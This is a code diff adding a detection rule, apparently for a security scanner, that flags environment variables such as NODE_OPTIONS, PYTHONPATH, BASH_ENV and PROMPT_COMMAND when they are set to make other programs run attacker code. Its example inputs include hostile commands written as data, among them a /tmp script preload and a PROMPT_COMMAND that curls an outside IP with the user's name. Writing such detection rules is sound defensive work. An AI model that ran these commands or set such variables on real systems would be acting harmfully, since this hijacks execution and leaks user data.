@@ -1,0 +1,62 @@
+import { scan } from "oktsec/evidence";
+import { defineRule } from "oktsec/rule";
+
+export default defineRule({
+  id: "CMDEXEC_137",
+  title: "An environment variable makes other programs run code",
+  why: "Interpreters and shells run what these variables name before they run what they were asked for.",
+  fix: "Unset it. Start programs with a clean environment.",
+  severity: "high",
+  category: "command-execution",
+  lane: "block",
+  maps: {
+    asi: ["ASI05", "ASI04"],
+    mcp: ["MCP05"],
+    cwe: ["CWE-426", "CWE-454"],
+    see: ["https://attack.mitre.org/techniques/T1574/007/"],
+  },
+  reads: ["message", "prompt", "tool_argument", "command", "tool_description", "config", "document"],
+  keywords: [
+    "node_options",
+    "pythonpath=",
+    "pythonstartup",
+    "pythonwarnings",
+    "perl5opt",
+    "perl5lib",
+    "rubyopt",
+    "bash_env",
+    "prompt_command",
+    "java_tool_options",
+    "path=/tmp",
+    "path=.:",
+    "path=/dev/shm",
+    "pythonbreakpoint",
+    'path="/tmp',
+    "git_external_diff",
+    "browser=",
+    '"pythonpath"',
+    '"path": "/tmp',
+    "php_ini_scan_dir",
+    "lessopen",
+    "pip_index_url",
+  ],
+  match: scan(
+    /\b(?:NODE_OPTIONS["']?\s{0,2}[=:]\s{0,2}["']?[^"'\n]{0,40}(?:--require|--import|-r|--experimental-loader|--loader)[= ]{1,2}(?:\/tmp|\/dev\/shm|\/var\/tmp|https?:|data:|\.{1,2}\/\.|\/[^\s"']{0,40}\/\.)|PYTHON(?:STARTUP|PATH|BREAKPOINT)["']?\s{0,2}[=:]\s{0,2}["']?(?:\/tmp|\/dev\/shm|\/var\/tmp|https?:|os\.system)|PYTHONWARNINGS=[^\s]{0,20}antigravity|PERL5(?:OPT|LIB)["']?\s{0,2}[=:]\s{0,2}["']?(?:-M|-d|\/tmp|\/dev\/shm)|RUBYOPT["']?\s{0,2}[=:]\s{0,2}["']?-r\s?(?:\/tmp|\.)|BASH_ENV["']?\s{0,2}[=:]\s{0,2}["']?(?:\/tmp|\/dev\/shm|\$\(|`|https?:|\/[^\s"']{0,40}\/\.)|PROMPT_COMMAND["']?\s{0,2}[=:]\s{0,2}["']?[^"'\n]{0,80}(?:curl|wget|nc\s|bash\s|\/dev\/tcp|python)|JAVA_TOOL_OPTIONS["']?\s{0,2}[=:]\s{0,2}["']?[^"'\n]{0,40}-javaagent:(?:\/tmp|\/dev\/shm|https?:)|PATH["']?\s{0,2}[=:]\s{0,2}["']?(?:\/tmp|\/dev\/shm|\/var\/tmp|\.)(?:\/[\w.\/-]{0,40})?:(?:\$\{?PATH|\/usr|\/bin)|(?:GIT_EXTERNAL_DIFF|LESSOPEN|BROWSER)["']?\s{0,2}[=:]\s{0,2}["']?[^"'\n]{0,60}(?:\bsh\s-c|curl|wget|\/tmp\/|\/dev\/shm))/,
+    () => true,
+  ),
+  examples: {
+    flags: [
+      { text: 'export NODE_OPTIONS="--require /tmp/.h.js"', kind: "command" },
+      { text: '{"env": {"PYTHONSTARTUP": "/tmp/s.py"}}', kind: "config" },
+      { text: "PATH=/tmp/bin:$PATH make deploy", kind: "command" },
+      { text: "export PROMPT_COMMAND='curl -s http://203.0.113.4/$(whoami)'", kind: "tool_argument" },
+      { text: "BASH_ENV=/dev/shm/e bash -c true", kind: "command" },
+    ],
+    passes: [
+      { text: 'export PATH="$HOME/.local/bin:$PATH"', kind: "command" },
+      { text: "NODE_OPTIONS=--max-old-space-size=4096 npm run build", kind: "command" },
+      { text: "ENV PYTHONPATH=/app/src", kind: "config" },
+      { text: "PYTHONPATH=. pytest", kind: "command" },
+    ],
+  },
+});
